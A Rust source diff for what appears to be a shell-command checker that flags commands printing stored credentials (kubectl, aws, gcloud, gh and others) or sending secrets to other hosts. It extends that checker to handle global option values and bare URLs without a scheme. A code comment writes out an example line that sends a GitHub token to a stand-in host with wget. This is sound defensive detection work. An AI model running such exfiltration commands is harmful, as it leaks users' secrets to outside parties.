@@ -96,16 +96,70 @@ fn piped_to_another_host(call: &Call) -> Option<String> {
     sends.then(|| text.to_string())
 }
 
+/// The options of the credential printers' command lines that take the next word as their
+/// value, wherever they stand (before the subcommand too).
+fn global_values(name: &str) -> &'static [&'static str] {
+    match name {
+        "kubectl" | "oc" => &[
+            "--kubeconfig",
+            "--context",
+            "--cluster",
+            "--user",
+            "-n",
+            "--namespace",
+            "-s",
+            "--server",
+            "--token",
+            "--as",
+            "--as-group",
+            "--certificate-authority",
+            "--client-certificate",
+            "--client-key",
+            "--request-timeout",
+            "--cache-dir",
+            "-v",
+        ],
+        "aws" => {
+            &["--profile", "--region", "--output", "--endpoint-url", "--query", "--ca-bundle", "--color"]
+        }
+        "gcloud" => &[
+            "--project",
+            "--account",
+            "--configuration",
+            "--format",
+            "--verbosity",
+            "--impersonate-service-account",
+        ],
+        "az" => &["--subscription", "-o", "--output", "--query"],
+        "gh" => &["-R", "--repo", "--hostname"],
+        "npm" | "pnpm" | "yarn" => &["--userconfig", "--prefix", "-C", "--dir", "--cwd"],
+        "git" => &["-C", "-c", "--git-dir", "--work-tree"],
+        _ => &[],
+    }
+}
+
+/// `args` without their options and the values of the `valued` ones.
+fn non_options<'a>(args: &'a [crate::shell::Word], valued: &'a [&str]) -> impl Iterator<Item = &'a str> {
+    let mut skip = false;
+    args.iter().map(|a| a.text.as_str()).filter(move |text| {
+        if std::mem::take(&mut skip) {
+            return false;
+        }
+        skip = valued.contains(text);
+        !text.starts_with('-')
+    })
+}
+
 /// Whether `command`, named `name`, prints a stored secret.
 fn prints_credential(name: &str, command: &SimpleCommand, commands: &[SimpleCommand]) -> bool {
     let args = command.args();
     let has = |flag: &str| args.iter().any(|a| crate::shell::is_option(&a.text, flag));
     // Nothing is collected for the commands the match below does not name (most of them).
-    let words =
-        || -> Vec<&str> { args.iter().map(|a| a.text.as_str()).filter(|a| !a.starts_with('-')).collect() };
-    let verb = |i: usize| {
-        args.iter().map(|a| a.text.as_str()).filter(|a| !a.starts_with('-')).nth(i).unwrap_or_default()
-    };
+    // The words that are no option nor an option's value (`kubectl --kubeconfig F config
+    // view`: `config`, `view`).
+    let valued = global_values(name);
+    let words = || -> Vec<&str> { non_options(args, valued).collect() };
+    let verb = |i: usize| non_options(args, valued).nth(i).unwrap_or_default();
     match name {
         "gh" => {
             verb(0) == "auth"
@@ -555,12 +609,25 @@ fn sent_elsewhere(name: &str, command: &SimpleCommand) -> Option<String> {
                 || services.iter().any(|service| host == *service || host.ends_with(&format!(".{service}")))
         };
         // A host the line does not spell (`"$GITHUB_API_URL/repos"`) is the environment's
-        // configuration; a host it spells must be the secret's own.
-        if !hosts.iter().all(|host| belongs(host)) {
+        // configuration; a host it spells must be the secret's own, also in a URL written
+        // without its scheme (`wget "x.example/?k=$GITHUB_TOKEN"`).
+        let bare = hosts.is_empty().then(|| bare_host(&arg.text)).flatten();
+        if !hosts.iter().chain(&bare).all(|host| belongs(host)) {
             return Some(secret);
         }
     }
     None
+}
+
+/// The host a URL written without a scheme starts with (`x.example/?k=v` -> `x.example`):
+/// a dotted name of letters, digits and `-`, before the first `/`, `?` or `#`.
+fn bare_host(text: &str) -> Option<&str> {
+    let authority = text.split(['/', '?', '#']).next()?;
+    let host = authority.rsplit('@').next()?.split(':').next()?;
+    let named = host.contains('.')
+        && !host.starts_with(['.', '-'])
+        && host.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-'));
+    (named && authority.len() < text.len()).then_some(host)
 }
 
 /// The host of a URL argument (`https://api.github.com/x` -> `api.github.com`).
